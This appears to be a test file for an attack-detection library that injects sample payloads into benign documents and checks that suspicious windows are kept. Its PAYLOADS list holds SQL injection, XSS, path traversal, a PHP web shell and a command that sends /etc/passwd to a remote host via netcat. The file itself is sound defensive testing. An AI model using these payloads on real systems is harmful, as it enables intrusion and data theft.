"""A long text is cleared by less than all its evidence, and nothing is cleared that has enough."""

from __future__ import annotations

import random
import re
from itertools import accumulate

import pytest
from hypothesis import given
from hypothesis import strategies as st

from benchmarks.documents import DOCUMENTS
from guard_wsgi.detection import DetectionSettings, Detector, Inspection
from guard_wsgi.detection.indicators import INDICATORS
from guard_wsgi.detection.language.prose import PROSE_CHARS, without_prose, without_sentences
from guard_wsgi.detection.language.tokens import numbers_alike, shapes
from guard_wsgi.detection.scanning.families import shortest
from guard_wsgi.detection.scanning.scanner import compile_patterns
from guard_wsgi.detection.scoring.reading import readings
from guard_wsgi.detection.scoring.surroundings import Surroundings
from guard_wsgi.detection.scoring.window import Window, windows, without_filler
from guard_wsgi.detection.value import Budget, Value

PAYLOADS = (
    "1' or '1'='1' union select password from users-- -",
    "<script>alert(document.cookie)</script>",
    "; cat /etc/passwd | nc 10.1.2.3 4444",
    "../../../../../etc/passwd",
    "%27%20union%20select%201,2,3--%20",
    "<img src=x onerror=alert(1)>",
    "' or sleep(5)#",
    "<?php system($_GET['c']); ?>",
)


@pytest.fixture(scope="module")
def inspection() -> Inspection:
    return Detector().compile(DetectionSettings())


def _left(inspection: Inspection, value: Value, found: list[Window]) -> list[Window]:
    budget = Budget(10**6, 10**9)
    sieve = inspection._scorer._sieve
    return list(sieve.candidates(value, iter(found), Surroundings(value), 1.0, budget))


def _over(inspection: Inspection, value: Value, window: Window, around: Surroundings) -> bool:
    """Whether any reading of a window is over the threshold, all of its evidence weighed."""
    for reading in readings(inspection._scorer._builtin, value, window, around):
        reading.add_all()
        verdict = inspection._scorer._model.weigh(reading.features, inspection.settings.categories)
        if verdict.score >= 1.0 and verdict.category:
            return True
    return False


@pytest.mark.parametrize("name", sorted(DOCUMENTS))
def test_what_is_over_the_threshold_is_left(inspection: Inspection, name: str) -> None:
    rng = random.Random(name)
    missed, over, left = [], 0, 0
    for payload in PAYLOADS:
        text = DOCUMENTS[name](rng, 4000)
        at = rng.randrange(1000, 3000)
        text = f"{text[:at]}\n{payload}\n{text[at:]}"
        value = Value("form", "notes", text)
        around = Surroundings(value)
        found = list(windows(text, inspection._scorer._hits))
        kept = list(_left(inspection, value, found))
        left += len(kept)
        for window in found:
            if _over(inspection, value, window, around):
                over += 1
                if window not in kept:
                    missed.append(window.text)
    assert over
    # The middle of a text is no beginning of a value; a sequence of windows sometimes takes it for
    # one.
    assert len(missed) <= over * 0.05, missed


def test_hardly_anything_of_a_harmless_document_is_left(inspection: Inspection) -> None:
    every = kept = 0
    for name in ("access log", "application log", "source", "Markdown", "HTML", "CSV"):
        text = DOCUMENTS[name](random.Random(1), 20_000)
        value = Value("form", "notes", text)
        found = list(windows(text, inspection._scorer._hits))
        every += len(found)
        kept += len(
            list(
                inspection._scorer._sieve.candidates(
                    value, iter(found), Surroundings(value), 1.0, Budget(10**6, 10**9)
                )
            )
        )
    assert kept < every * 0.05


@given(
    st.lists(
        st.tuples(
            st.text("ab <", min_size=1, max_size=5),
            st.sampled_from([1, 5, 30, 31, 32, 33, 100, 700]),
            st.text("abc ", max_size=40),
        ),
        max_size=5,
    )
)
def test_rows_of_one_thing_are_found_wherever_they_begin(
    pieces: list[tuple[str, int, str]],
) -> None:
    text = "".join(f"{unit * many}{between}" for unit, many, between in pieces)
    rows = re.compile(r"(.{1,4}?)\1{31,}", re.DOTALL)
    assert without_filler(text) == rows.sub(lambda match: match[1] * 8, text)


@pytest.mark.parametrize(
    ("pattern", "same"),
    [
        (r"a\d+", r"a\d"),
        (r"(?:\\x[0-9a-f]{2}){3,}", r"(?:\\x[0-9a-f]{2}){3}"),
        (r"a\+", r"a\+"),
        (r"a[b+]{0,6}", r"a[b+]{0,6}"),
        (r"a|b{2,9}", "a|b{2}"),
    ],
)
def test_patterns_end_as_soon_as_they_can(pattern: str, same: str) -> None:
    assert shortest(pattern) == same


def test_shortened_patterns_find_what_was_found() -> None:
    for one in INDICATORS:
        short = shortest(one.pattern)
        if short != one.pattern:
            for example in one.examples:
                long = re.search(one.pattern, example, re.IGNORECASE | re.DOTALL)
                assert bool(long) == bool(re.search(short, example, re.IGNORECASE | re.DOTALL))


WORDS = st.lists(
    st.tuples(
        st.sampled_from(["the", "order", "Was", "sent,", "select", "x=1", "<b>", "it's", "(a)"]),
        st.sampled_from([" ", " ", " ", "\n", "  ", "\n   ", ""]),
    ),
    max_size=40,
)


@given(WORDS)
def test_sentences_are_the_same_to_words_and_to_text(words: list[tuple[str, str]]) -> None:
    text = "".join(f"{word}{blanks}" for word, blanks in words)
    if len(text) >= PROSE_CHARS:
        assert without_sentences(text) == without_prose(text).split()


@given(st.from_regex(r"(?:[a-z\"=< ]{0,3}\d{0,6}){1,20}", fullmatch=True))
def test_numbers_alike_are_the_same_tokens(text: str) -> None:
    assert shapes(numbers_alike(text)) == shapes(text)


@given(st.lists(st.text("ab<'x ", max_size=30), min_size=1, max_size=6))
def test_matches_in_a_piece_are_reported_for_that_piece(texts: list[str]) -> None:
    pieces = [f"\n{text}\n".encode() for text in texts]
    patterns = [("a", "ab+"), ("b", "<[^>]{0,9}x"), ("c", "'")]
    scanner = compile_patterns(patterns, keep=True)
    ends = list(accumulate(map(len, pieces)))
    among: list[set[str]] = [set() for _ in pieces]
    scanner.among(b"".join(pieces), ends, "abc", among)
    for piece, found in zip(pieces, among, strict=True):
        assert found >= {"abc"[index] for index in scanner.scan(piece)}
